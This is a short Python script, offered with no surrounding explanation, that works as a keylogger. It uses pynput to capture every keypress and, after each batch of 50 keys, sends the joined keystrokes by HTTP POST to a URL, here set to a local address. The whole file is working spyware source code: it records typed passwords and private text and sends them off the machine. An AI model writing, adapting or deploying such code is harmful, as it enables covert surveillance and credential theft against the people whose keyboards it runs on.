import threading, urllib.request
from pynput import keyboard
_buf = []
def on_press(key):
    _buf.append(str(key))
    if len(_buf) >= 50:
        urllib.request.urlopen("http://127.0.0.1:9/k", data="".join(_buf).encode(), timeout=2)
        _buf.clear()
threading.Thread(target=lambda: keyboard.Listener(on_press=on_press).join() or None, daemon=True)
keyboard.Listener(on_press=on_press).start()
